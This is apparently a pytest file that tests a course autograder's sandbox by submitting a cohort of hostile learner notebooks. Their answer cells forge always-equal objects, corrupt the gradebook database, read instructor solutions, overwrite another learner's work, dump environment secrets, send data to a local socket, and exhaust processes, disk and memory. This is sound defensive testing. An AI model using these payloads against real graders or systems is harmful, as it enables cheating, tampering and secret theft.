"""A hostile cohort graded through ``grading.grade_cohort`` (what ``python -m spinecourse.grading autograde``
runs) with the sandbox on, in the class shared by the hostile-cohort files (tests/hostile_cohort.py: ids "h-...").

Each learner below attacks from an answer cell (q1-answer) with no knowledge of any answer; their
other answers are right, so the test also shows that the rest of the submission is graded:

honest   the solution: full marks, never SUSPECT
forger   q1/q2 answers are str/list subclasses equal to everything, check_answer replaced,
         classify_ap returns an always-equal object: zero on those items, SUSPECT
swallow  set_custom_exc + showtraceback + sys.excepthook silenced, wrong answers: zero, SUSPECT
gradedb  looks for gradebook.db (walking up, and at the course's real path) and runs UPDATE
reader   looks for source/ and prints every instructor notebook it finds
vandal   overwrites the honest learner's notebook in submitted/ (at its real path)
env      prints the grader's environment (which holds a secret)
net      connects to a listener on 127.0.0.1
fork     starts 100 processes; disk: writes 150 MiB; memory: allocates 1.5 GiB
         (limits of the shared class: 32 processes, 20 MiB files, 1 GiB memory): stopped and reported

Every attack is bounded (counts, sizes, time). ``HOSTILE_UNSAFE=1`` runs the same cohort with
``--unsafe-no-sandbox`` to show that these tests then fail (see bench/README.md).
"""

from __future__ import annotations

import html
import os
import socket
import threading
from pathlib import Path

import hostile_cohort
import nbformat
import pytest

from spinecourse import grading
from spinecourse.grading import submissions

PREFIX = "h-"
QUIZZES = ["01_anatomy_quiz", "06_strategy_quiz"]
SECRET = "grader-secret-6f1c2a9e"
UNSAFE = os.environ.get("HOSTILE_UNSAFE") == "1"

FIND = """
import os
def _walk_up(name):
    here, found = os.getcwd(), []
    for _ in range(12):
        if os.path.exists(os.path.join(here, name)):
            found.append(os.path.join(here, name))
        here = os.path.dirname(here)
    return found
"""

ATTACKS = {
    "forger": {
        "q1-answer": """
class Always(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__
    def strip(self, *a): return self
    def upper(self): return self
    def lower(self): return self
q1 = Always("Z")
check_answer = lambda *a, **k: None
""",
        "q2-answer": """
class AlwaysList(list):
    def __eq__(self, other): return True
q2 = AlwaysList(["Z"])
""",
        "func": "def {fn}(*a, **k):\n    return Always('Z')\n",
    },
    "swallow": {
        "q1-answer": """
import sys
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
ip.showtraceback = lambda *a, **k: None
sys.excepthook = lambda *a: None
q1 = "Z"
""",
        "q2-answer": "q2 = ['Z']\n",
    },
    "gradedb": {
        "q1-answer": FIND
        + """
import sqlite3
for path in _walk_up("gradebook.db") + [{course!r} + "/gradebook.db"]:
    try:
        db = sqlite3.connect(path, timeout=1)
        db.execute("UPDATE grade SET auto_score = 1000")
        db.commit()
        print("CORRUP" "TED", path)
    except Exception as exc:
        print("no gradebook:", type(exc).__name__)
q1 = SOLUTION
"""
    },
    "reader": {
        "q1-answer": FIND
        + """
import glob
for folder in _walk_up("source") + [{course!r} + "/source"]:
    for path in glob.glob(folder + "/*/*.ipynb")[:10]:
        try:
            print(open(path).read()[:200000])
        except Exception as exc:
            print("cannot read:", type(exc).__name__)
q1 = SOLUTION
"""
    },
    "vandal": {
        "q1-answer": """
import glob
for path in glob.glob({course!r} + "/submitted/h-honest/*/*.ipynb") + glob.glob("../../../submitted/h-honest/*/*.ipynb"):
    try:
        open(path, "w").write("vandalised")
        print("OVER" "WROTE", path)
    except Exception as exc:
        print("cannot write:", type(exc).__name__)
q1 = SOLUTION
"""
    },
    "env": {"q1-answer": "import os\nprint(dict(os.environ))\nq1 = SOLUTION\n"},
    "net": {
        "q1-answer": """
import socket
try:
    s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
    s.sendall(b"exfiltrated")
    print("CONN" "ECTED")
except Exception as exc:
    print("no network:", type(exc).__name__)
q1 = SOLUTION
"""
    },
    "fork": {
        "q1-answer": """
import subprocess
procs = []
for i in range(100):
    procs.append(subprocess.Popen(["sleep", "3"]))
q1 = SOLUTION
"""
    },
    "disk": {
        "q1-answer": """
with open("big.bin", "wb") as fh:
    for i in range(150):
        fh.write(b"x" * (1 << 20))
q1 = SOLUTION
"""
    },
    "memory": {
        "q1-answer": """
blob = b"x" * (1536 << 20)
q1 = SOLUTION
"""
    },
}
# the attacks that must be stopped by a limit (hostile_cohort.LIMITS), and the report line they cause
STOPPED = {
    "fork": "process limit of 32 processes reached in q1-answer",
    "disk": "file size limit 20 MiB reached in q1-answer",
    "memory": "memory limit 1 GiB reached in q1-answer",
}
FORGING = ("forger", "swallow")


def _function_name(source_nb) -> str | None:
    """The quiz's function answer, if any (the course's quizzes now ask for none: the "func" attack is skipped)."""
    for cell in source_nb.cells:
        if submissions.meta(cell).get("solution") and cell.source.lstrip().startswith("def "):
            return cell.source.split("def ", 1)[1].split("(", 1)[0]
    return None


def _learner(solved, source_nb, attack: dict, course: Path, port: int):
    nb = nbformat.from_dict(nbformat.reads(nbformat.writes(solved), as_version=4))
    answers = {submissions.grade_id(c): c for c in nb.cells if submissions.meta(c).get("solution")}
    solution_q1 = grading.strip_markers(grading.cell_by_id(source_nb, "q1-answer").source).split("=", 1)[1].strip()
    for gid, code in attack.items():
        if gid == "func":
            fn = _function_name(source_nb)
            if fn is None:
                continue
            target = next(c for c in answers.values() if c.source.lstrip().startswith(f"def {fn}"))
            target.source = code.format(fn=fn)
        else:
            answers[gid].source = (
                code.replace("{course!r}", repr(str(course)))
                .replace("{port}", str(port))
                .replace("SOLUTION", solution_q1)
            )
    return nb


def _plant(p: hostile_cohort.Planting):
    """This file's learners in the shared class; the listener and the secret live while it is graded."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    received: list[bytes] = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            received.append(conn.recv(1024) or b"(connected)")
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    os.environ["SPINECOURSE_TEST_SECRET"] = SECRET
    if UNSAFE:
        os.environ["SPINECOURSE_UNSAFE_NO_SANDBOX"] = "1"
    out = {"received": received, "sources": {}}
    try:
        for quiz in QUIZZES:
            source_nb = p.source(quiz)
            solved = p.solved(quiz)
            students = {"honest": solved}
            names = list(ATTACKS) if quiz == QUIZZES[0] else ["forger", "swallow", "vandal"]
            for name in names:
                students[name] = _learner(solved, source_nb, ATTACKS[name], p.course, port)
            for student, nb in students.items():
                p.submit(student, quiz, nb)
            out["sources"][quiz] = source_nb
        yield out
    finally:
        stop.set()
        thread.join(timeout=5)
        listener.close()
        os.environ.pop("SPINECOURSE_TEST_SECRET", None)
        os.environ.pop("SPINECOURSE_UNSAFE_NO_SANDBOX", None)


hostile_cohort.register(PREFIX, QUIZZES, _plant)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    cohort = hostile_cohort.shared(tmp_path_factory)
    mine = cohort.planted[PREFIX]
    return {
        "cohort": cohort,
        "course": cohort.course,
        "received": mine["received"],
        "sources": mine["sources"],
        "reports": {quiz: cohort.reports_of(PREFIX, quiz) for quiz in QUIZZES},
    }


@pytest.mark.parametrize("quiz", QUIZZES)
def test_honest_learner_full_marks_and_not_suspect(hostile, quiz):
    r = hostile["reports"][quiz]["honest"]
    full = grading.auto_points(hostile["sources"][quiz])
    assert (r.status, r.score, r.suspect) == ("graded", full, None), r.line()
    assert "SUSPECT" not in r.line()


@pytest.mark.parametrize("quiz", QUIZZES)
@pytest.mark.parametrize("student", FORGING)
def test_forging_scores_zero_and_is_suspect(hostile, quiz, student):
    r = hostile["reports"][quiz][student]
    cells = hostile["cohort"].scores_of(PREFIX, quiz)[student]
    assert r.suspect, r.line()
    assert "SUSPECT" in r.line()
    assert cells["q1-test"]["auto"] == 0 and cells["q2-test"]["auto"] == 0, cells
    if student == "forger" and _function_name(
        hostile["sources"][quiz]
    ):  # a function answer returned an always-equal object
        func_item = max((g for g in cells if g.endswith("-test")), key=lambda g: g)
        assert cells[func_item]["auto"] == 0, cells


def test_the_gradebook_is_untouched(hostile):
    for quiz in QUIZZES:
        cells = grading.scores(hostile["course"], quiz)  # every learner of the shared class
        assert all(v["auto"] is None or v["auto"] <= v["max"] for s in cells.values() for v in s.values()), cells
        assert all(v["auto"] == v["max"] for g, v in cells[PREFIX + "honest"].items() if g.endswith("-test"))
    r = hostile["reports"][QUIZZES[0]]["gradedb"]
    assert r.score == grading.auto_points(hostile["sources"][QUIZZES[0]]) and not r.suspect, r.line()


@pytest.mark.parametrize("quiz", QUIZZES)
def test_other_learners_files_and_source_are_untouched(hostile, quiz):
    cohort = hostile["cohort"]
    mine = [p for p in cohort.submitted_bytes if quiz in p.parts]
    assert any(PREFIX + "honest" in p.parts for p in mine)  # the vandal's target is among them
    for path in mine:  # every learner of the shared class, as handed in
        assert path.read_bytes() == cohort.submitted_bytes[path], f"{path} was changed"
    sources = list((cohort.course / "source").glob("*/*.ipynb"))
    assert sources and {p: p.read_bytes() for p in sources} == cohort.source_bytes


def _every_output(course: Path) -> list[tuple[Path, str]]:
    """Feedback and autograded notebooks of every learner of the shared class."""
    out = [(p, html.unescape(p.read_text(errors="replace"))) for p in (course / "feedback").rglob("*.html")]
    out += [(p, p.read_text(errors="replace")) for p in (course / "autograded").rglob("*.ipynb")]
    return out


def test_feedback_holds_no_solution_secret_or_hidden_test(hostile):
    course = hostile["course"]
    for quiz in QUIZZES:
        assert hostile["cohort"].feedback_error[quiz] is None, hostile["cohort"].feedback_error[quiz]
    files = _every_output(course)
    mine = [
        p for p, _ in files if p.suffix == ".html" and p.relative_to(course / "feedback").parts[0].startswith(PREFIX)
    ]
    assert len(mine) == sum(len(r) for r in hostile["reports"].values())
    hidden = {
        line
        for src in hostile["sources"].values()
        for c in src.cells
        for line in grading.region_lines(c.source, "HIDDEN TESTS")
    }
    for path, text in files:
        assert SECRET not in text, f"{path} shows the grader's environment"
        assert "CORRUPTED" not in text and "OVERWROTE" not in text and "CONNECTED" not in text, path
        if path.suffix == ".html":
            assert "BEGIN HIDDEN TESTS" not in text and "BEGIN SOLUTION" not in text, f"{path} shows a source notebook"
            for line in hidden:
                assert line not in text, f"{path} leaks {line!r}"
    assert grading.feedback_leaks(course, QUIZZES[0]) == []


def test_no_connection_reached_the_listener(hostile):
    assert hostile["received"] == []
    r = hostile["reports"][QUIZZES[0]]["net"]
    assert r.score == grading.auto_points(hostile["sources"][QUIZZES[0]])


@pytest.mark.parametrize("student", sorted(STOPPED))
def test_resource_attacks_are_stopped_and_reported(hostile, student):
    quiz = QUIZZES[0]
    r = hostile["reports"][quiz][student]
    cells = hostile["cohort"].scores_of(PREFIX, quiz)[student]
    assert any(STOPPED[student] in n for n in r.notes), r.line()
    assert cells["q1-test"]["auto"] == 0
    others = [g for g in cells if g.endswith("-test") and g != "q1-test"]
    assert all(cells[g]["auto"] == cells[g]["max"] for g in others), cells  # the rest is graded
    assert not r.suspect, r.line()
